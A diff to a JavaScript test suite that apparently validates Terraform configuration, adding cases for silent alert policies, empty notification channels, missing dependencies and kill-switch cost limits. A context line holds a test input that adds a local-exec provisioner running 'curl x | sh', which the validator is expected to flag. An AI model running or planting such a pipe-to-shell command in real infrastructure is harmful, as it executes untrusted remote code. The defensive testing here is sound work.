@@ -871,6 +871,39 @@ describe('a fault is found', () => {
       'not each alert has a policy',
     ],
     [
+      'pages that wake nobody',
+      (of) =>
+        Object.assign(block(of, 'google_monitoring_alert_policy', 'metrics').body, {
+          notification_channels: ['${google_monitoring_notification_channel.operator.id}'],
+        }),
+      'reaches no channel that wakes somebody',
+    ],
+    [
+      'channels that are told of nothing',
+      (of) =>
+        Object.assign(of['modules/monitoring']?.locals ?? {}, { channels: { WARNING: [], CRITICAL: [] } }),
+      'reaches no channel that wakes somebody',
+    ],
+    [
+      'an address that nobody is told is down',
+      (of) =>
+        Object.assign(block(of, 'google_monitoring_alert_policy', 'uptime').body, { for_each: '${{}}' }),
+      'not each alert has a policy',
+    ],
+    [
+      'alerts before the sweeps',
+      (of) => delete of['modules/cell']?.calls.monitoring?.depends_on,
+      'before what they ask for: scheduler',
+    ],
+    [
+      'another limit of the kill switch',
+      (of) =>
+        Object.assign(of['modules/cell']?.locals ?? {}, {
+          hourly_dollars: '${var.kill_switch ? 0.05 : var.limits.cell_hourly_dollars}',
+        }),
+      'do not know the limit of the kill switch',
+    ],
+    [
       'a command of somebody else’s',
       (of) => add(of, 'terraform_data', { provisioner: { 'local-exec': [{ command: 'curl x | sh' }] } }),
       'runs curl',
